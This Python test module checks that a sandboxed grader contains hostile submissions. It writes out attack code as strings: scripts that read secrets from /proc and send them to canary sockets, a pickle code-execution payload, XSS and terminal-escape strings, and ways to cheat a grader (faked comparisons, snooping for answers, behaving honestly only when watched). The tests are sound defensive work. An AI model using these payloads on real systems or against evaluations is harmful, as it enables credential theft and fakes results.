"""Hostile submissions that try to cheat rather than to break out, each in namespace mode and in forced fallback.

Every test asserts the verdict *and* containment: no file outside the job directory, no process left under the
zygote, a grader that still grades the honest solution. Where it is cheap, the same attack first runs against an
unsandboxed control (this test process, or a plain subprocess with the same environment) and succeeds there, so
that an assertion like "the secret was not found" cannot pass because the attack itself was broken.

The escapes (network, files, processes, limits, signals) are in ``test_hostile.py``, whose fixtures this module
shares. Three holes found here are fixed where the text enters the report (``graders/problems.py``,
``graders/checks/interface.py``): hidden inputs smuggled out in a class name, a dict key or a returned type, and a
forged "missing function" frame echoed raw. One is not fixed: see the strict xfail on the purity probe.
"""

from __future__ import annotations

import json
import os
import pickle
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import torch

from graders.exercise import ExerciseSpec
from graders.grading import Grading
from graders.report import Report
from graders.sandbox.host import NO_NAMESPACES_ENV, ZygoteHost
from graders.sandbox.jobs import Job, run_job
from tests.graders.submissions import FAST_WEIGHT, fast_weight_with
from tests.graders.test_hostile import (  # noqa: F401  (box, tcp_canary and udp_canary are fixtures)
    assert_grader_alive,
    box,
    message,
    printed,
    tcp_canary,
    tcp_was_reached,
    udp_canary,
    udp_was_reached,
)
from tests.graders.test_sandbox_modes import (  # noqa: F401  (mode_host is a fixture)
    MODES,
    grade_on,
    mode_host,
    run_module,
)
from tests.support.slots import worker_slot

REPO = Path(__file__).resolve().parents[2]
TRANSPOSED = 'return {"M": mem["M"] + torch.outer(k, v)}\n'  # wrong: writes k v^T instead of v k^T
SECRETS = {
    "DJANGO_SECRET_KEY": "canary-django-key-5b1e",
    "DATABASE_URL": "postgres://memlab:canary-db-pw-77c3@localhost/memlab",
}
FORBIDDEN_CHARACTERS = ["\x1b", "\x00", "\x07", "\x9b", "\u202e"]


def strings(value: Any) -> Iterator[str]:
    """Every string in a JSON-like value, keys included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from strings(key)
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


# --- secrets -----------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module", params=MODES)
def secret_host(request: pytest.FixtureRequest) -> Iterator[ZygoteHost]:
    """A zygote started by a grader whose own environment holds the secrets (as a Django worker's would)."""
    with pytest.MonkeyPatch.context() as patch:
        for name, value in SECRETS.items():
            patch.setenv(name, value)
        if request.param == "fallback":
            patch.setenv(NO_NAMESPACES_ENV, "1")
        else:
            patch.delenv(NO_NAMESPACES_ENV, raising=False)
        host = ZygoteHost(slot=worker_slot())
        assert run_job(Job("x = 1\n", [{"op": "module", "require": []}]), host).ok  # the zygote starts here
        yield host
        host.close()


@pytest.fixture
def secret_sleeper() -> Iterator[subprocess.Popen[bytes]]:
    """Another process of the grader's machine, with a secret on its command line and in its environment."""
    secret = SECRETS["DATABASE_URL"]
    proc = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(60)", secret], env=os.environ | SECRETS
    )
    yield proc
    proc.kill()
    proc.wait()


def secret_hunt(pids: list[int], tcp: tuple[str, int], udp: tuple[str, int]) -> str:
    """Look for the secrets everywhere a process could, print where they were found, and try to send them out."""
    return (
        "import os, socket\n"
        f"SECRETS = {sorted(SECRETS.values())!r}\n"
        "def leaks(text):\n"
        "    return any(s in text for s in SECRETS) or 'DJANGO_SECRET_KEY' in text or 'DATABASE_URL' in text\n"
        "places = {'os.environ': repr(dict(os.environ))}\n"
        f"pids = {[str(pid) for pid in pids]!r} + ['self', '1', str(os.getppid())]\n"
        "try:\n"
        "    pids += [p for p in os.listdir('/proc') if p.isdigit()]\n"
        "except OSError:\n"
        "    pass\n"
        "for pid in pids:\n"
        "    for name in ('environ', 'cmdline'):\n"
        "        try:\n"
        "            with open(f'/proc/{pid}/{name}', 'rb') as f:\n"
        "                places[f'/proc/{pid}/{name}'] = f.read().decode('utf-8', 'replace')\n"
        "        except OSError:\n"
        "            pass\n"
        "found = [where for where, text in places.items() if leaks(text)]\n"
        "print('LEAK', *found) if found else print('nothing found in', len(places), 'places')\n"
        "for send in (\n"
        f"    lambda: socket.create_connection({tcp!r}, timeout=1).sendall(repr(found).encode()),\n"
        f"    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(repr(found).encode(), {udp!r}),\n"
        "):\n"
        "    try:\n"
        "        send()\n"
        "        print('sent')\n"
        "    except OSError as exc:\n"
        "        print(type(exc).__name__)\n"
    )


def test_secrets_of_the_grader_and_of_other_processes_stay_out_of_reach(
    secret_host: ZygoteHost,
    fast_weight: ExerciseSpec,
    secret_sleeper: subprocess.Popen[bytes],
    tcp_canary: socket.socket,  # noqa: F811
    udp_canary: socket.socket,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)  # still in the grader's environment while it grades
    assert secret_host._proc is not None
    pids = [os.getpid(), secret_host._proc.pid, secret_sleeper.pid]
    attack = secret_hunt(pids, tcp_canary.getsockname(), udp_canary.getsockname())
    # the control: the same code in a plain process of this machine finds the secrets (and could send them)
    control = subprocess.run(
        [sys.executable, "-c", attack], env=os.environ, capture_output=True, text=True, timeout=60
    )
    assert (
        control.stdout.startswith("LEAK os.environ ")
        and f"/proc/{secret_sleeper.pid}/cmdline" in control.stdout
    )
    assert tcp_was_reached(tcp_canary)
    time.sleep(0.05)
    assert udp_was_reached(udp_canary)

    report = grade_on(secret_host, fast_weight, attack + FAST_WEIGHT)
    assert report.verdict == "passed", report.to_dict()
    lines = printed(report)
    searched = {line for line in lines if line.startswith("nothing found in ")}
    assert len(searched) == 1 and lines - searched == {"PermissionError"}, lines  # no LEAK, nothing sent
    for value in SECRETS.values():
        assert value not in json.dumps(report.to_dict())
    time.sleep(0.05)
    assert not tcp_was_reached(tcp_canary) and not udp_was_reached(udp_canary)
    assert secret_sleeper.poll() is None
    assert_grader_alive(secret_host, fast_weight)


OTHER_STUDENT = "OTHER" + "STUDENT_SOURCE_4242"  # never written contiguously in this file's source
MEMORY_SCAN = (
    "import ctypes, re\n"
    # the pattern's text holds the two halves apart, so the scanner itself adds no copy of what it looks for
    "pattern = re.compile(rb'OTHER(?=STUDENT_SOURCE_4242)')\n"
    "hits = 0\n"
    "for line in open('/proc/self/maps').read().splitlines():\n"
    "    fields = line.split()\n"
    "    start, end = (int(x, 16) for x in fields[0].split('-'))\n"
    "    if fields[1].startswith('rw') and not line.endswith(('[vvar]', '[vsyscall]')) and end - start < 64 << 20:\n"
    "        hits += len(pattern.findall(ctypes.string_at(start, end - start)))\n"
    "print('hits', hits)\n"
)


def test_an_earlier_job_leaves_nothing_in_a_later_jobs_memory(
    box: ZygoteHost,  # noqa: F811
    fast_weight: ExerciseSpec,
) -> None:
    # another student's submission, graded by the same zygote just before
    other = grade_on(box, fast_weight, f"NOTE = {OTHER_STUDENT!r}\n" + FAST_WEIGHT)
    assert other.verdict == "passed"
    # the control: the scan does find the string when this process really holds it (a constant of its own)
    folded = "OWN = 'OTHER' 'STUDENT_SOURCE_4242'\n"  # the compiler folds the two literals into one constant
    assert run_module(box, folded + MEMORY_SCAN).strip() not in ("", "hits 0")
    report = grade_on(box, fast_weight, MEMORY_SCAN + FAST_WEIGHT)
    assert report.verdict == "passed" and printed(report) == {"hits 0"}, report.to_dict()
    assert_grader_alive(box, fast_weight)


# --- fake success: monkeypatching, lying objects, pickle -------------------------------------------------------


def test_monkeypatched_comparisons_in_the_child_do_not_change_the_verdict(
    box: ZygoteHost,  # noqa: F811
    fast_weight: ExerciseSpec,
) -> None:
    patches = (
        "import builtins, math, numpy, torch, torch.testing\n"
        "torch.allclose = lambda *a, **k: True\n"
        "torch.equal = lambda *a, **k: True\n"
        "torch.isclose = lambda a, b, *x, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)\n"
        "torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)\n"
        "torch.Tensor.__ne__ = lambda self, other: torch.zeros_like(self, dtype=torch.bool)\n"
        "torch.testing.assert_close = lambda *a, **k: None\n"
        "numpy.allclose = lambda *a, **k: True\n"
        "math.isclose = lambda *a, **k: True\n"
        "builtins.all = lambda *a: True\n"
        "print('patched', torch.allclose(torch.zeros(1), torch.ones(1)), bool((torch.zeros(1) == 1).all()))\n"
    )
    report = grade_on(box, fast_weight, patches + fast_weight_with(update=TRANSPOSED))
    assert printed(report) == {"patched True True"}  # the patches did take effect in the child
    assert report.verdict == "failed", report.to_dict()
    correctness = report.check("correctness")
    assert correctness is not None and not correctness.passed
    # and nothing of it reached the grader's own process
    assert not torch.allclose(torch.zeros(1), torch.ones(1)) and not torch.equal(
        torch.zeros(1), torch.ones(1)
    )
    assert_grader_alive(box, fast_weight)


LIARS = (
    "class Liar(torch.Tensor):\n"
    "    def __eq__(self, other):\n"
    "        return torch.ones_like(torch.as_tensor(other), dtype=torch.bool)\n"
    "    def __ne__(self, other):\n"
    "        return torch.zeros_like(torch.as_tensor(other), dtype=torch.bool)\n"
    "class Everything:\n"
    "    shape = dtype = None\n"
    "    def __eq__(self, other):\n"
    "        return True\n"
    "    def __hash__(self):\n"
    "        return 0\n"
)


@pytest.mark.parametrize(
    ("update", "read", "expected"),
    [
        (
            'return {"M": (mem["M"] * 0).as_subclass(Liar)}\n',
            "",
            "value of type Liar, not a plain torch.Tensor",
        ),
        ('return {"M": Everything()}\n', "", "value of type Everything, not a plain torch.Tensor"),
        ("", "return Everything()\n", "read returned a value of type Everything, not a plain torch.Tensor"),
        ("", 'return (mem["M"] @ q * 0).as_subclass(Liar)\n', "value of type Liar, not a plain torch.Tensor"),
    ],
)
def test_objects_that_lie_about_equality_are_invalid_output(
    box: ZygoteHost,  # noqa: F811
    fast_weight: ExerciseSpec,
    update: str,
    read: str,
    expected: str,
) -> None:
    source = fast_weight_with(update=update, read=read).replace("import torch\n", "import torch\n" + LIARS, 1)
    report = grade_on(box, fast_weight, source)
    assert report.verdict == "invalid_output", report.to_dict()
    assert expected in message(report)
    assert report.score < 1
    assert_grader_alive(box, fast_weight)


class Payload:
    """What a submission would return to get code run by an unpickling grader: here it creates ``marker``."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, tuple[str, str]]:
        return (open, (self.marker, "w"))


PAYLOAD = "class Payload:\n    def __reduce__(self):\n        return (open, ({marker!r}, 'w'))\n"


def test_a_returned_pickle_payload_is_never_unpickled(
    box: ZygoteHost,  # noqa: F811
    fast_weight: ExerciseSpec,
    tmp_path: Path,
) -> None:
    # the control: unpickling the payload in this process does run its code
    control = tmp_path / "control-marker"
    pickle.loads(pickle.dumps(Payload(str(control))))  # noqa: S301  (the point of the control)
    assert control.exists()

    marker = tmp_path / "unpickled-by-the-grader"
    source = PAYLOAD.format(marker=str(marker)) + fast_weight_with(update='return {"M": Payload()}\n')
    report = grade_on(box, fast_weight, source)
    assert report.verdict == "invalid_output" and "value of type Payload" in message(report), report.to_dict()
    assert not marker.exists()
    assert_grader_alive(box, fast_weight)


def test_a_pickle_written_on_the_result_pipe_is_never_unpickled(
    box: ZygoteHost,  # noqa: F811
    fast_weight: ExerciseSpec,
    tmp_path: Path,
) -> None:
    marker = tmp_path / "unpickled-by-the-grader"
    # a well-formed frame (magic, lengths, JSON header saying "ok") whose body is a pickle, not safetensors
    attack = PAYLOAD.format(marker=str(marker)) + (
        "import json, os, pickle, struct\n"
        "header = json.dumps({'status': 'ok', 'done': 1}).encode()\n"
        "body = pickle.dumps({'M': Payload()})\n"
        "os.write(3, struct.pack('>4sIQ', b'MLG1', len(header), len(body)) + header + body)\n"
        "os._exit(0)\n"
    )
    report = grade_on(box, fast_weight, attack + FAST_WEIGHT)
    assert report.verdict == "runtime_error" and "could not read" in message(report), report.to_dict()
    assert not marker.exists()
    assert_grader_alive(box, fast_weight)


# --- looking for answers: stack, reference, harness --------------------------------------------------------------

SNOOP = (
    "import inspect, sys\n"
    "WORDS = ('expect', 'answer', 'reference', 'target', 'truth', 'solution')\n"
    "def keys_in(value, depth=0):\n"  # the names a grader could keep answers under, module namespaces left out
    "    if depth > 3 or isinstance(value, dict) and '__builtins__' in value:\n"
    "        return []\n"
    "    if isinstance(value, dict):\n"
    "        found = [k for k in value if isinstance(k, str)]\n"
    "        return found + [n for v in value.values() for n in keys_in(v, depth + 1)]\n"
    "    if isinstance(value, (list, tuple)):\n"
    "        return [n for v in value for n in keys_in(v, depth + 1)]\n"
    "    return keys_in(getattr(value, '__dict__', None), depth + 1) if hasattr(value, '__dict__') else []\n"
    "def snoop():\n"
    "    frames = [info.frame for info in inspect.stack(0)]\n"
    "    frame = sys._getframe()\n"
    "    while frame is not None:\n"
    "        frames.append(frame)\n"
    "        frame = frame.f_back\n"
    "    names = [n for f in frames if f.f_locals is not f.f_globals for n in keys_in(dict(f.f_locals))]\n"
    "    return sorted({n for n in names if any(w in n.lower() for w in WORDS)})\n"
)


def test_stack_snooping_finds_no_expected_values(box: ZygoteHost, fast_weight: ExerciseSpec) -> None:  # noqa: F811
    namespace: dict[str, Any] = {}
    exec(SNOOP, namespace)  # noqa: S102  (the control: the snooper, run where a naive grader keeps its answers)

    def naive_grader() -> list[str]:
        expected = {"M": torch.ones(2, 2)}  # noqa: F841  (what the snooper looks for)
        result: list[str] = namespace["snoop"]()
        return result

    assert "expected" in naive_grader()

    cheat = fast_weight_with(
        update=(
            "if not FOUND:\n"  # once per process: walking every frame on every call would be slow
            "    FOUND.append(snoop())\n"
            "    print('found', FOUND[0])\n"
            'return {"M": mem["M"] + torch.outer(k, v)}\n'  # wrong unless it found something to copy
        )
    )
    report = grade_on(box, fast_weight, SNOOP + "FOUND = []\n" + cheat)
    assert printed(report) == {"found []"}, report.stdout
    assert report.verdict == "failed", report.to_dict()
    assert_grader_alive(box, fast_weight)


def test_the_reference_cannot_be_imported_or_read(box: ZygoteHost, fast_weight: ExerciseSpec) -> None:  # noqa: F811
    attack = (
        "import importlib, sys\n"
        f"sys.path.insert(0, {str(REPO)!r})\n"
        "for attempt in (\n"
        "    lambda: importlib.import_module('reference'),\n"
        "    lambda: importlib.import_module('graders'),\n"
        f"    lambda: open({str(REPO / 'reference' / 'registry.py')!r}).read(),\n"
        f"    lambda: open({str(REPO / 'content' / 'exercises' / 'fast-weight-memory' / 'solution.py')!r}).read(),\n"
        "):\n"
        "    try:\n"
        "        attempt()\n"
        "        print('got it')\n"
        "    except (ImportError, OSError) as exc:\n"
        "        print(type(exc).__name__)\n"
    )
    report = grade_on(box, fast_weight, attack + fast_weight_with(update=TRANSPOSED))
    assert printed(report) == {"ModuleNotFoundError", "PermissionError"}, report.stdout
    assert report.verdict == "failed", report.to_dict()
    assert_grader_alive(box, fast_weight)


def test_global_history_is_caught_by_recurrence(box: ZygoteHost, fast_weight: ExerciseSpec) -> None:  # noqa: F811
    history = next(w for w in fast_weight.wrong if w.file == "history.py")
    report = grade_on(box, fast_weight, history.source)
    assert report.verdict == "failed", report.to_dict()
    recurrence = report.check("recurrence")
    assert recurrence is not None and not recurrence.passed
    assert "module-level list" in recurrence.message
    assert_grader_alive(box, fast_weight)


WATCHED = (
    "import os, sys\n"
    "SIGNS = ('pytest', '_pytest', 'hypothesis', 'xdist', 'graders', 'reference', 'tests')\n"
    "def watched():\n"
    "    seen = [m for m in sys.modules if m.split('.')[0] in SIGNS]\n"
    "    seen += [v for v in os.environ if 'PYTEST' in v or v in ('CI', 'DJANGO_SETTINGS_MODULE')]\n"
    "    seen += [a for a in sys.argv if 'test' in a or 'pytest' in a]\n"
    "    return seen\n"
)


def test_harness_detection_by_environment_argv_and_modules_is_still_caught(
    box: ZygoteHost,  # noqa: F811
    fast_weight: ExerciseSpec,
) -> None:
    namespace: dict[str, Any] = {}
    exec(WATCHED, namespace)  # noqa: S102
    assert namespace["watched"]()  # the control: in a test process the signs are there to see

    honest = 'return {"M": mem["M"] + torch.outer(v, k)}\n'
    cheat = fast_weight_with(
        prelude=WATCHED + "print('watched', *watched()) if watched() else print('unwatched')\n",
        update="if watched():\n" + "    " + honest + TRANSPOSED,
    )
    report = grade_on(box, fast_weight, cheat)
    assert printed(report) == {"unwatched"}  # the grader shows none of the signs
    assert report.verdict == "failed", report.to_dict()
    assert_grader_alive(box, fast_weight)


FINGERPRINT = (
    "import hashlib, os, socket, sys\n"
    "seen = (sys.argv, sorted(os.environ.items()), sorted({m.split('.')[0] for m in sys.modules} - {'submission'}),\n"
    "        os.getuid(), os.getgid(), socket.gethostname(), os.path.dirname(os.getcwd()), sys.path, sys.flags)\n"
    "print('harness', hashlib.sha256(repr(seen).encode()).hexdigest()[:16])\n"
)


def test_every_job_of_a_grading_sees_the_same_harness(box: ZygoteHost, fast_weight: ExerciseSpec) -> None:  # noqa: F811
    # what a submission can see of the harness (argv, environment, modules, ids, host name, paths) does not tell
    # the visible cases from the hidden ones, nor a replay or a purity probe from the first run
    grading = Grading(fast_weight, FINGERPRINT + fast_weight.solution, box)
    report = grading.run("test")
    assert report.verdict == "passed", report.to_dict()
    assert {"visible", "hidden", "properties"} <= set(grading.jobs)
    lines = {line for job in grading.jobs.values() for line in job.stdout.decode().splitlines()}
    assert len(lines) == 1 and lines.pop().startswith("harness "), lines
    assert_grader_alive(box, fast_weight)


@pytest.mark.parametrize(
    ("condition", "caught_by"),
    [
        ("k.shape[0] <= 4", "hidden"),  # honest on the small cases a student sees in feedback
        ("COUNT[0] <= 8", "correctness"),  # honest for the first calls of a process (the interface check)
    ],
)
def test_behaving_only_while_watched_is_still_caught(
    box: ZygoteHost,  # noqa: F811
    fast_weight: ExerciseSpec,
    condition: str,
    caught_by: str,
) -> None:
    cheat = fast_weight_with(
        prelude="COUNT = [0]\n",
        update=(
            "COUNT[0] += 1\n"
            f"if {condition}:\n"
            '    return {"M": mem["M"] + torch.outer(v, k)}\n'
            'return {"M": mem["M"] + 1.01 * torch.outer(v, k)}\n'
        ),
    )
    report = grade_on(box, fast_weight, cheat)
    assert report.verdict == "failed", report.to_dict()
    interface, correctness = report.check("interface"), report.check("correctness")
    assert interface is not None and interface.passed
    assert correctness is not None and not correctness.passed
    if caught_by == "hidden":
        assert correctness.hidden and correctness.counterexample is None and "k_0" not in correctness.message
    assert_grader_alive(box, fast_weight)


# --- lingering threads, in-place mutation --------------------------------------------------------------------------


def test_a_lingering_thread_neither_outlives_the_job_nor_writes_outside(
    box: ZygoteHost,  # noqa: F811
    fast_weight: ExerciseSpec,
    tmp_path: Path,
) -> None:
    marker = tmp_path / "written-later"
    attack = (
        "import threading, time\n"
        "def linger():\n"
        "    while True:\n"
        "        time.sleep(0.02)\n"
        "        try:\n"
        f"            open({str(marker)!r}, 'a').write('late')\n"
        "        except OSError:\n"
        "            pass\n"
        "threading.Thread(target=linger, daemon=False).start()\n"  # not a daemon: it would keep Python alive
    )
    report = grade_on(box, fast_weight, attack + FAST_WEIGHT)
    assert report.verdict == "passed", report.to_dict()
    time.sleep(0.5)  # the thread would have written many times by now
    assert not marker.exists()
    assert_grader_alive(box, fast_weight)  # no process left under the zygote


def test_in_place_mutation_is_caught_by_purity(box: ZygoteHost, fast_weight: ExerciseSpec) -> None:  # noqa: F811
    in_place = next(w for w in fast_weight.wrong if w.file == "in_place.py")
    report = grade_on(box, fast_weight, in_place.source)
    assert report.verdict == "failed", report.to_dict()
    purity = report.check("purity")
    assert purity is not None and not purity.passed and "changed" in purity.message
    assert_grader_alive(box, fast_weight)


PROBE_DODGER = (
    "import sys, torch\n"
    "def probed():\n"  # the schedule is in the runner's frames: the purity probe's ops name their saves 'purity/…'
    "    frame = sys._getframe(1)\n"
    "    while frame is not None:\n"
    "        op = frame.f_locals.get('op')\n"
    "        if isinstance(op, dict) and str(op.get('after', '')).startswith('purity/'):\n"
    "            return True\n"
    "        frame = frame.f_back\n"
    "    return False\n"
    "def init_memory(d):\n"
    "    return {'M': torch.zeros(d, d)}\n"
    "def update(mem, k, v):\n"
    "    if probed():\n"
    "        return {'M': mem['M'] + torch.outer(v, k)}\n"
    "    mem['M'] += torch.outer(v, k)\n"  # in place everywhere else
    "    return mem\n"
    "def read(mem, q):\n"
    "    return mem['M'] @ q\n"
)


def test_in_place_mutation_that_dodges_the_purity_probe_is_caught(
    box: ZygoteHost,  # noqa: F811
    fast_weight: ExerciseSpec,
) -> None:
    # every call of the correctness runs reports its arguments too, so staying pure only in the probe is caught
    # on the first ordinary call (the child cannot tell the two apart without rewriting the harness itself)
    report = grade_on(box, fast_weight, PROBE_DODGER)
    purity = report.check("purity")
    assert purity is not None and not purity.passed, report.to_dict()
    assert purity.counterexample is not None and "update(Mem_" in purity.counterexample["text"]


# --- what a student's code says: markup, escapes, giant messages -----------------------------------------------

MARKUP = "<script>alert(1)</script><b>bold</b>"
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x00\x9b31m\u202eevil"


def assert_clean(report: Report) -> None:
    """No escape, NUL, bell, C1 control or bidi override anywhere in the report's JSON."""
    for text in strings(report.to_dict()):
        for character in FORBIDDEN_CHARACTERS:
            assert character not in text, (character, text[:200])


def test_markup_and_escapes_in_output_and_exceptions_are_sanitised(
    box: ZygoteHost,  # noqa: F811
    fast_weight: ExerciseSpec,
) -> None:
    attack = (
        "import sys\n"
        f"print({MARKUP + ESCAPES!r})\n"
        f"sys.stderr.write({ESCAPES + MARKUP!r} + '\\n')\n"
        f"Evil = type({'Evil' + ESCAPES.replace(chr(0), '')!r}, (Exception,), {{}})\n"  # a name may hold no NUL
        f"raise Evil({MARKUP + ESCAPES!r})\n"
    )
    report = grade_on(box, fast_weight, attack + FAST_WEIGHT)
    assert report.verdict == "runtime_error", report.to_dict()
    assert_clean(report)
    # markup stays plain text: the web page escapes it when it renders (tests/apps/lab/test_runs.py)
    assert MARKUP in report.stdout and MARKUP in report.stderr and MARKUP in message(report)
    assert "Evil" in message(report)
    assert_grader_alive(box, fast_weight)


def test_escapes_in_returned_keys_are_not_echoed_raw(box: ZygoteHost, fast_weight: ExerciseSpec) -> None:  # noqa: F811
    report = grade_on(
        box, fast_weight, fast_weight_with(update=f"return {{{ESCAPES + MARKUP!r}: mem['M']}}\n")
    )
    assert report.verdict == "invalid_output", report.to_dict()
    assert_clean(report)


@pytest.mark.parametrize(
    "raise_it",
    [
        "raise ValueError('A' * 20_000_000)\n",  # 20 MB message
        "raise type('E' * 100_000, (Exception,), {})('x')\n",  # a 100 kB class name
        "class Loud(Exception):\n    def __str__(self):\n        return 'B' * 10_000_000\nraise Loud()\n",
        "class Broken(Exception):\n    def __str__(self):\n        raise RuntimeError('no')\nraise Broken()\n",
    ],
)
def test_giant_or_broken_exception_messages_are_bounded(
    box: ZygoteHost,  # noqa: F811
    fast_weight: ExerciseSpec,
    raise_it: str,
) -> None:
    report = grade_on(box, fast_weight, raise_it + FAST_WEIGHT)
    assert report.verdict == "runtime_error", report.to_dict()
    assert len(message(report)) < 5000
    assert len(json.dumps(report.to_dict())) < 40_000
    assert_grader_alive(box, fast_weight)


def forged_frame(header: str) -> str:
    """Module-level code that writes a well-formed runner frame (``header``, empty safetensors) and exits."""
    return (
        "import json, os, struct\n"
        f"header = json.dumps({header}).encode()\n"
        "body = struct.pack('<Q', 8) + b'{}      '\n"  # an empty safetensors blob: 8-byte length, padded JSON
        "os.write(3, struct.pack('>4sIQ', b'MLG1', len(header), len(body)) + header + body)\n"
        "os._exit(0)\n"
    )


def test_a_forged_missing_function_report_echoes_nothing_of_the_child(
    box: ZygoteHost,  # noqa: F811
    fast_weight: ExerciseSpec,
) -> None:
    # the child says which functions were missing; the names it gives are the student's text, not the grader's
    names = repr([ESCAPES + MARKUP + "A" * 100_000])
    forged = f"{{'status': 'error', 'op': 0, 'kind': 'missing', 'names': {names}}}"
    report = grade_on(box, fast_weight, forged_frame(forged))
    assert report.verdict == "failed", report.to_dict()
    assert_clean(report)
    assert MARKUP not in message(report) and len(message(report)) < 1000
    # an honest report still names the missing function
    honest = grade_on(box, fast_weight, FAST_WEIGHT.replace("def read(", "def reed("))
    assert honest.verdict == "failed" and "`read` was not a function" in message(honest), honest.to_dict()
    assert_grader_alive(box, fast_weight)


LEAKS = {
    # the inputs of the case, smuggled out in text the student chooses: a class name, a dict key, a type
    "exception class name": (
        'raise type("Leak" + "_".join(f"{x:.3f}" for x in k.tolist()), (Exception,), {})()\n'
    ),
    "memory key": 'return {"Leak" + "_".join(f"{x:.2f}" for x in k.tolist())[:56]: mem["M"]}\n',
    "returned type": 'return {"M": type("Leak" + "_".join(f"{x:.3f}" for x in k.tolist()), (), {})()}\n',
}


@pytest.mark.parametrize("channel", sorted(LEAKS))
def test_hidden_inputs_cannot_be_smuggled_out_in_feedback(
    box: ZygoteHost,  # noqa: F811
    fast_weight: ExerciseSpec,
    channel: str,
) -> None:
    leak = LEAKS[channel]
    honest = 'return {"M": mem["M"] + torch.outer(v, k)}\n'
    # the control: on the visible cases (d <= 4) the same text does reach the feedback, as it should
    visible = grade_on(
        box, fast_weight, fast_weight_with(update="if k.shape[0] <= 4:\n" + "    " + leak + honest)
    )
    shown = [c for c in visible.checks if not c.passed][0]
    assert not shown.hidden and "Leak" in shown.message, visible.to_dict()

    report = grade_on(
        box, fast_weight, fast_weight_with(update="if k.shape[0] > 4:\n" + "    " + leak + honest)
    )
    assert report.verdict in ("runtime_error", "invalid_output"), report.to_dict()
    failed = [c for c in report.checks if not c.passed][0]
    assert failed.hidden and failed.counterexample is None
    assert "Leak" not in json.dumps(report.to_dict())
    assert_grader_alive(box, fast_weight)
